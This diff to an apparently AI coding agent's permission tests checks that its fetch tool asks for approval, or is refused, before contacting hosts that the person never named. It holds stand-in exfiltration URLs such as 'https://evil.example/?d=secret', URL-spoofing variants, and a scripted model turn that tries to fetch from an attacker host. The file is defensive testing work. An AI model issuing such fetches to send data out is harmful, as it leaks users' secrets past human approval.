@@ -10,6 +10,7 @@ import { ruling } from "@pawl/core";
 import fc from "fast-check";
 import { type Mode, modes } from "../src/config/schema.ts";
 import { proposedGrant } from "../src/grant.ts";
+import { hostsIn } from "../src/named-hosts.ts";
 import { permissionFor } from "../src/permission.ts";
 import { answerOf } from "../src/question.ts";
 import { realPath } from "../src/tools/real-path.ts";
@@ -28,12 +29,17 @@ const read = call("read", { path: "a.ts" }, "read");
 function judged(
   mode: Mode,
   question: PermissionQuestion,
-  rules: { permissions?: PermissionRule[]; narrowing?: PermissionRule[]; allAllowed?: boolean } = {},
+  rules: {
+    permissions?: PermissionRule[];
+    narrowing?: PermissionRule[];
+    allAllowed?: boolean;
+    named?(host: string): boolean;
+  } = {},
 ): string {
-  const { permissions = [], narrowing = [], allAllowed = false } = rules;
+  const { permissions = [], narrowing = [], allAllowed = false, named = () => false } = rules;
   const said: PermissionVerdict = permissionFor(
     { mode, permissions, narrowing },
-    { cwd: "/w", real: (path) => path, allAllowed: () => allAllowed },
+    { cwd: "/w", real: (path) => path, allAllowed: () => allAllowed, named },
   )(question);
   return typeof said === "string" ? said : said.say;
 }
@@ -87,7 +93,7 @@ test("a link in a repository does not make .git an ordinary folder, nor a denied
     { input: { path: "secrets/**" }, say: "deny" },
     { input: { path: "src/**" }, say: "allow" },
   ];
-  const place = { cwd, real: (path: string) => realPath(cwd, path), allAllowed: () => false };
+  const place = { cwd, real: (path: string) => realPath(cwd, path), allAllowed: () => false, named: () => false };
   const permission = permissionFor({ mode: "accept-edits", permissions: rules, narrowing: [] }, place);
   const words = [
     "docs/pre-commit",
@@ -106,6 +112,68 @@ test("a link in a repository does not make .git an ordinary folder, nor a denied
   symlinkSync("loop", join(cwd, "loop"));
   assert.doesNotThrow(() => permission(edit("loop/x")));
   assert.doesNotThrow(() => permission(edit("a\0b")));
+});
+
+test("a task runs without a question in every mode, and a rule that asks about it or denies it is heard", () => {
+  const task = call("task", { agent: "general", prompt: "x" }, "idempotent");
+  const words = (rules: Parameters<typeof judged>[2] = {}) => modes.map((mode) => judged(mode, task, rules));
+  assert.deepEqual(words(), ["allow", "allow", "allow", "allow"]);
+  const ask: PermissionRule = { tool: "task", input: { agent: "general" }, say: "ask" };
+  assert.deepEqual(words({ permissions: [ask] }), ["ask", "ask", "ask", "allow"]);
+  assert.deepEqual(words({ narrowing: [ask] }), ["ask", "ask", "ask", "allow"]);
+  assert.deepEqual(words({ narrowing: [{ ...ask, say: "deny" }] }), ["deny", "deny", "deny", "deny"]);
+});
+
+describe("fetch, whose address can carry away what was read", () => {
+  const fetch = (url: string) => call("fetch", { url }, "read");
+  const words = (url: string, rules: Parameters<typeof judged>[2] = {}) =>
+    modes.map((mode) => judged(mode, fetch(url), rules));
+
+  test("is asked about in every mode but `all`, also where what reads runs", () => {
+    assert.deepEqual(words("https://evil.example/?d=secret"), ["ask", "ask", "ask", "allow"]);
+    assert.deepEqual(words("https://evil.example/", { allAllowed: true }), ["allow", "allow", "allow", "allow"]);
+  });
+
+  test("runs for a host that the person has named with its scheme, in every mode; not for what only looks like it", () => {
+    const said = hostsIn(
+      "See https://Docs.example:8080/a, (http://www.other.example). Not index.ts, README.md or evil.example",
+    );
+    assert.deepEqual([...said], ["docs.example:8080", "www.other.example"]);
+    const named = (host: string) => said.has(host);
+    assert.deepEqual(words("https://docs.example:8080/b?c", { named }), ["allow", "allow", "allow", "allow"]);
+    for (const url of [
+      "https://docs.example/",
+      "https://docs.example:8080@evil.example/",
+      "https://evil.example/https://docs.example:8080/",
+      "https://sub.docs.example:8080/",
+      "no address",
+    ])
+      assert.equal(judged("ask", fetch(url), { named }), "ask", url);
+  });
+
+  test("is denied by a rule in whatever way the address is spelled, and allowed by one", () => {
+    const deny: PermissionRule = { tool: "fetch", input: { url: "https://evil.example/*" }, say: "deny" };
+    for (const url of [
+      "https://evil.example",
+      "HTTPS://EVIL.example/x",
+      "https:evil.example/x",
+      " https://evil.example:443/x",
+    ])
+      assert.equal(judged("all", fetch(url), { permissions: [deny] }), "deny", url);
+    const allow: PermissionRule = { tool: "fetch", input: { url: "https://docs.example/*" }, say: "allow" };
+    assert.equal(judged("plan", fetch("https://docs.example/x"), { permissions: [allow] }), "allow");
+    assert.equal(judged("ask", fetch("https://docs.example.evil.example/x"), { permissions: [allow] }), "ask");
+    const foreign = { permissions: [allow], narrowing: [{ tool: "fetch", say: "ask" } as PermissionRule] };
+    assert.equal(judged("ask", fetch("https://docs.example/x"), foreign), "ask");
+  });
+
+  test("always means the host", () => {
+    assert.deepEqual(proposedGrant(fetch("HTTPS://Docs.example/a?b*")), {
+      input: { url: "https://docs.example/*" },
+      words: "fetch https://docs.example/*",
+    });
+    assert.equal(proposedGrant(fetch("no address")).input, undefined);
+  });
 });
 
 describe("what always would mean", () => {
@@ -243,4 +311,22 @@ test("--yes and --mode together are refused", async (t) => {
   const { code, stderr } = await new World(t).pawl(["run", "Hi", "--yes", "--mode", "plan"]);
   assert.equal(code, 2);
   assert.match(stderr, /--yes.*--mode/);
+});
+
+test("the real pawl: a host named in an earlier input is fetched from, also in a task; one that a model names is not", async (t) => {
+  const world = new World(t);
+  const fetch = (url: string) => ({ call: "fetch", input: { url } });
+  const server = await world.server([
+    [{ text: "Hello." }],
+    [{ call: "task", input: { agent: "explore", prompt: "Read http://evil.example/" } }],
+    [fetch("http://127.0.0.1:9/page"), fetch("http://evil.example/?data")],
+    [{ text: "Read." }],
+    [{ text: "Done." }],
+  ]);
+  for (const prompt of ["See http://127.0.0.1:9/.", "Go on"])
+    assert.equal((await world.pawl(["run", prompt, "--session", "s", ...world.place(server)])).code, 0);
+  const told = server.requests[3]?.body ?? "";
+  // Run, and refused by the guard of private addresses.
+  assert.match(told, /not an address of the public internet/);
+  assert.equal(told.split("TOOL_DENIED: this call needs a person's approval").length - 1, 1);
 });
